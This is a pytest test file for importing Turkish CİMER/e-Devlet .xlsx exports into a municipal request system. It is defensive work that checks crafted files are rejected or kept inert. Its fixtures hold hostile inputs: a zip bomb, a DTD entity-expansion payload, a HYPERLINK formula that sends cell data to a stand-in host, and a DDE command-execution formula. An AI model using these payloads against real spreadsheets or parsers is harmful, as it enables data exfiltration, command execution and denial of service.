"""CİMER / e-Devlet .xlsx exports: a realistic panel export through the parser, API, CLI and console;
crafted files (zip bomb, too many rows, too large, not a zip, DTD, formulas) rejected or kept inert; dry runs
that write nothing (counted at the AWS client seam)."""
from __future__ import annotations

import json
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from chalicelib.channels.cimer import inbound as cimer
from chalicelib.channels.cimer import xlsx
from chalicelib.domain.models import Channel
from tests.conftest import FIXTURES, auth
from tests.support import xlsx_files
from tests.support.aws_calls import recording
from tests.support.cli_imports import via_test_client

TZ = ZoneInfo("Europe/Istanbul")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FIXTURE = FIXTURES / "cimer" / "basvurular.xlsx"
READS = {"GetItem", "Query", "BatchGetItem", "TransactGetItems"}


def _post(client, body, ctype=XLSX, path="/imports/cimer", role="agent"):
    return client.http.post(path, headers={**auth(role), "Content-Type": ctype}, body=body)


def _writes(recorder) -> list[str]:
    """Every AWS call that is not a read (a dry run may only look application numbers up)."""
    return [f"{c.service}.{c.operation}" for c in recorder.calls
            if not (c.service == "dynamodb" and c.operation in READS)]


# -- the parser ---------------------------------------------------------------------------------------------
def test_the_shipped_fixture_is_what_the_generator_builds():
    from openpyxl import load_workbook
    import io

    ws = load_workbook(io.BytesIO(FIXTURE.read_bytes()), read_only=True).worksheets[0]
    rows = [r for r in ws.iter_rows(values_only=True)]
    assert rows[0][0].startswith("CİMER Başvuru Listesi") and list(rows[3]) == xlsx_files.HEADER
    assert rows[4][2] == datetime(2026, 11, 20, 14, 35)  # a real date cell, not text


def test_xlsx_export_gives_the_same_commands_and_legal_deadlines_as_the_csv():
    from_xlsx = cimer.read_records(FIXTURE.read_bytes())
    from_csv = cimer.read_records((FIXTURES / "cimer/basvurular.csv").read_bytes())
    assert len(from_xlsx) == len(from_csv) == 6  # title lines and the blank line above the header skipped

    def summary(records):
        out = []
        for _, number, cmd, error in cimer.iter_commands(records, Channel.cimer):
            out.append((number, error is None, cmd and cmd.received_at, cmd and cmd.due_at, cmd and cmd.text,
                        cmd and cmd.citizen.phone, cmd and cmd.citizen.email))
        return out

    assert summary(from_xlsx) == summary(from_csv)
    first = summary(from_xlsx)[0]
    assert first[2] == datetime(2026, 11, 20, 14, 35, tzinfo=TZ) and first[5] == "+905324445566"
    law_4982 = next(s for s in summary(from_xlsx) if s[0] == "2026/4815165")
    assert law_4982[3].isoformat() == "2026-12-14T23:59:59+03:00"  # 15 working days, as for the CSV


def test_numbers_typed_as_numbers_and_extra_sheets():
    body = xlsx_files.workbook_bytes([[4815170, datetime(2026, 11, 20, 9, 0), 5324445566.0, "Yol çukur"]],
                                     header=["Başvuru No", "Başvuru Tarihi", "Telefon", "Başvuru Metni"],
                                     title=False)
    [row] = cimer.read_records(body)
    assert row == {"__sheet_row__": 2, "Başvuru No": "4815170", "Başvuru Tarihi": "2026-11-20T09:00:00", "Telefon": "5324445566",
                   "Başvuru Metni": "Yol çukur"}
    assert cimer.row_command(row).citizen.phone == "+905324445566"


def test_formulas_are_kept_as_literal_text_never_evaluated():
    records = cimer.read_records(xlsx_files.with_formulas())
    texts = [cimer.row_command(r).text for r in records]
    assert texts[0].endswith('=HYPERLINK("http://kotu.example/x?d="&A1,"Tıklayın")')
    assert texts[1].endswith("=cmd|' /C calc'!A0")
    assert texts[2].endswith("=SUM(1,2)") and "3" not in texts[2]  # not computed
    assert cimer.row_command(records[2]).citizen.name == "=1+1"


@pytest.mark.parametrize("name, body, message", [
    ("zip bomb (ratio ~1000)", xlsx_files.zip_bomb, "zip bomb"),
    ("not a zip", lambda: xlsx.ZIP_MAGIC + b"\x00" * 200, "not an .xlsx"),
    ("zip without a workbook", lambda: xlsx_files.zip_with({"a.txt": b"merhaba"}), "not an Excel workbook"),
    ("DTD with entities", lambda: xlsx_files.replace_member(
        xlsx_files.cimer_export(), "xl/sharedStrings.xml",
        b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><sst>&b;</sst>'),
     "DTD"),
    ("huge sharedStrings part", lambda: xlsx_files.replace_member(
        xlsx_files.cimer_export(), "xl/sharedStrings.xml",
        b"<sst>" + b"".join(b"<si><t>Talep %d</t></si>" % i for i in range(1_400_000)) + b"</sst>"),
     "part of the file is too large"),
])
def test_crafted_files_are_rejected_before_openpyxl_reads_them(name, body, message, monkeypatch):
    import openpyxl

    def never(*_a, **_kw):
        raise AssertionError("openpyxl must not be reached")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    with pytest.raises(cimer.FileError) as err:
        cimer.read_records(body())
    assert message in str(err.value)


def test_rejecting_a_zip_bomb_inflates_nothing():
    import tracemalloc

    body = xlsx_files.zip_bomb()  # ~20 KB that would inflate to 20 MB
    assert len(body) < 100_000
    tracemalloc.start()
    try:
        with pytest.raises(cimer.FileError):
            cimer.read_records(body)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 1024 * 1024, peak  # decided from the zip directory alone


def test_size_rows_and_empty_rows_are_bounded(monkeypatch):
    with pytest.raises(cimer.FileError, match="5 MB"):
        xlsx.read_xlsx(xlsx.ZIP_MAGIC + b"\x00" * (5 * 1024 * 1024))
    small = xlsx.Limits(max_rows=50, max_scanned_rows=500)
    assert len(xlsx.read_xlsx(xlsx_files.many_rows(50), small)) == 50
    with pytest.raises(cimer.FileError, match="at most 50 rows"):
        xlsx.read_xlsx(xlsx_files.many_rows(51), small)
    # one cell at row 1 048 576: openpyxl would pad a million empty rows; the walk stops at the limit
    with pytest.raises(cimer.FileError, match="too many rows in the sheet"):
        xlsx.read_xlsx(xlsx_files.stray_last_row(), small)
    # the defaults apply when no limits are given (the API path)
    monkeypatch.setattr(xlsx, "LIMITS", small)
    with pytest.raises(cimer.FileError, match="at most 50 rows"):
        cimer.read_records(xlsx_files.many_rows(51))


# -- API --------------------------------------------------------------------------------------------------
def test_xlsx_import_through_the_api_reports_rows_dedupes_and_routes(client, pump):
    body = FIXTURE.read_bytes()
    r = _post(client, body)
    assert r.status_code == 200, r.body
    report = r.json_body
    assert (report["total"], report["created"], report["duplicates"], report["failed"]) == (6, 3, 1, 2)
    assert [e["row"] for e in report["errors"]] == [3, 6]
    assert [e["sheet_row"] for e in report["errors"]] == [7, 10]  # the rows as numbered in Excel
    due = {i["application_number"]: i["due_at"] for i in report["items"]}
    assert due["2026/4815165"].startswith("2026-12-14T23:59:59+03:00")
    assert due["2026/4815162"].startswith("2026-12-20T23:59:59+03:00")
    again = _post(client, body).json_body
    assert (again["created"], again["duplicates"], again["failed"]) == (0, 4, 2)
    # the same applications from the CSV export are the same requests (same application numbers)
    csv = _post(client, (FIXTURES / "cimer/basvurular.csv").read_bytes(), "text/csv").json_body
    assert csv["created"] == 0 and csv["duplicates"] == 4
    pump.drain()
    items = client.http.get("/requests?channel=cimer", headers=auth("admin")).json_body["items"]
    by_ref = {i["channel_ref"]: i for i in items}
    assert set(by_ref) == {"2026/4815162", "2026/4815163", "2026/4815165"}
    assert by_ref["2026/4815162"]["department"] == "temizlik" and by_ref["2026/4815163"]["department"] == "park"
    # sniffed without a spreadsheet Content-Type too (octet-stream from curl --data-binary)
    assert _post(client, body, "application/octet-stream", "/imports/e-devlet").json_body["created"] == 3


def test_api_dry_run_writes_nothing_and_says_what_would_happen(client, pump):
    body = FIXTURE.read_bytes()
    with recording() as calls:
        r = _post(client, body, path="/imports/cimer?dry_run=1")
    assert r.status_code == 200, r.body
    assert _writes(calls) == [] and calls.counts()["GetItem"] >= 3
    report = r.json_body
    assert report["dry_run"] is True
    assert (report["would_create"], report["created"], report["duplicates"], report["failed"]) == (3, 0, 1, 2)
    results = {i["row"]: i["result"] for i in report["items"]}
    assert results == {1: "would_create", 2: "would_create", 4: "duplicate", 5: "would_create"}
    assert {i["row"]: i["legal_basis"] for i in report["items"]}[5] == "4982"
    assert client.http.get("/requests?channel=cimer", headers=auth("admin")).json_body["items"] == []
    made = _post(client, body).json_body
    with recording() as calls:
        again = _post(client, body, path="/imports/cimer?dry_run=true").json_body
    assert _writes(calls) == []
    assert (again["would_create"], again["duplicates"]) == (0, 4)
    codes = {i["tracking_code"] for i in made["items"]}
    assert {i["tracking_code"] for i in again["items"]} == codes
    assert _post(client, body, path="/imports/cimer?dry_run=maybe").status_code == 400


def test_api_rejects_crafted_files_whole_and_writes_nothing(client, monkeypatch):
    monkeypatch.setattr(xlsx, "LIMITS", xlsx.Limits(max_rows=50, max_scanned_rows=500))
    for body, ctype, words in [
        (xlsx_files.zip_bomb(), XLSX, "zip bomb"),
        (xlsx_files.many_rows(51), XLSX, "at most 50 rows"),
        (xlsx_files.stray_last_row(), XLSX, "too many rows"),
        (b"Basvuru No;Basvuru Tarihi\n1;2\n", XLSX, "not an .xlsx"),
        (xlsx.ZIP_MAGIC + b"garbage" * 10, "application/octet-stream", "not an .xlsx"),
    ]:
        with recording() as calls:
            r = _post(client, body, ctype)
        assert r.status_code == 400, (words, r.body)
        assert words in r.json_body["error"]["message"] and _writes(calls) == []
    too_big = _post(client, xlsx.ZIP_MAGIC + b"\x00" * (5 * 1024 * 1024 + 1))
    assert too_big.status_code == 413


def test_formula_cells_are_stored_as_text_and_exports_stay_formula_safe(client, pump):
    r = _post(client, xlsx_files.with_formulas())
    assert r.status_code == 200 and r.json_body["created"] == 3, r.body
    pump.drain()
    ids = {i["application_number"]: i["request_id"] for i in r.json_body["items"]}
    got = client.http.get(f"/requests/{ids['2026/900001']}", headers=auth("admin")).json_body
    assert got["text"].endswith('=HYPERLINK("http://kotu.example/x?d="&A1,"Tıklayın")')
    assert client.http.get(f"/requests/{ids['2026/900003']}", headers=auth("admin")).json_body["citizen"]["name"] \
        == "=1+1"
    export = client.http.get("/analytics/export?format=csv", headers=auth("admin"))
    assert export.status_code == 200
    text = export.body.decode("utf-8-sig") if isinstance(export.body, bytes) else export.body
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert cells and not any(c.startswith(("=", "+", "@")) for c in cells)
    assert "HYPERLINK" not in text and "cmd|" not in text


# -- CLI --------------------------------------------------------------------------------------------------
def test_cli_dry_run_then_import_of_an_xlsx_export(client, pump, tmp_path, monkeypatch, capsys):
    from ulakbel_cli import imports as cli
    from ulakbel_cli.main import main

    urls: list[str] = []
    monkeypatch.setattr(cli, "_post", via_test_client(client, urls))
    report_file = tmp_path / "onizleme.json"
    with recording() as calls:  # chunks of 2: the repeated number (rows 2 and 4) is in different chunks
        code = main(["import", "cimer", str(FIXTURE), "--dry-run", "--chunk", "2", "--report", str(report_file),
                     "--url", "http://127.0.0.1:8000"])
    assert _writes(calls) == []
    out = capsys.readouterr().out
    assert code == 1  # two rows would fail
    assert urls[0] == "http://127.0.0.1:8000/imports/cimer?first_row=1&dry_run=1" and len(urls) == 3
    assert "DENEME — hiçbir şey yazılmadı / DRY RUN — nothing was written" in out
    # row 1 = first data row (as for CSV); "Excel 5" is where staff find it (2 title lines, a blank line, header)
    assert ("satır/row 1 (2026/4815162, Excel 5): oluşturulacak / would create, Kanun 3071, son gün / due 2026-12-20"
            in out)
    assert "satır/row 4 (2026/4815163, Excel 8): zaten var / duplicate (dosyada tekrar / repeated in file)" in out
    assert "satır/row 3 (2026/4815164, Excel 7): hata / error: Başvuru tarihi anlaşılamadı" in out
    assert "6 satır: 3 oluşturulacak, 1 zaten var, 2 hatalı" in out
    preview = json.loads(report_file.read_text())
    assert preview["dry_run"] is True and preview["would_create"] == 3 and preview["created"] == 0
    assert client.http.get("/requests?channel=cimer", headers=auth("admin")).json_body["items"] == []

    code = main(["import", "cimer", str(FIXTURE), "--chunk", "2", "--url", "http://127.0.0.1:8000"])
    out = capsys.readouterr().out
    assert code == 1 and "6 satır: 3 yeni, 1 zaten vardı, 2 hatalı" in out
    assert "satır/row 6 (-, Excel 10): Başvuru No boş" in out
    code = main(["import", "cimer", str(FIXTURE), "--dry-run", "--url", "http://127.0.0.1:8000"])
    out = capsys.readouterr().out
    assert "0 oluşturulacak, 4 zaten var" in out and "zaten var / duplicate → " in out


def test_cli_refuses_a_crafted_xlsx_before_sending_anything(tmp_path, monkeypatch, capsys):
    from ulakbel_cli import imports as cli
    from ulakbel_cli.main import main

    monkeypatch.setattr(cli, "_post", lambda *a: pytest.fail("nothing may be sent"))
    bomb = tmp_path / "bomba.xlsx"
    bomb.write_bytes(xlsx_files.zip_bomb())
    assert main(["import", "cimer", str(bomb), "--dry-run"]) == 2
    assert "zip bomb" in capsys.readouterr().err
    fake = tmp_path / "liste.xlsx"
    fake.write_text("Başvuru No;Başvuru Tarihi;Başvuru Metni\n1;01.11.2026;x\n", encoding="utf-8")
    assert main(["import", "cimer", str(fake)]) == 2
    assert "not an .xlsx" in capsys.readouterr().err
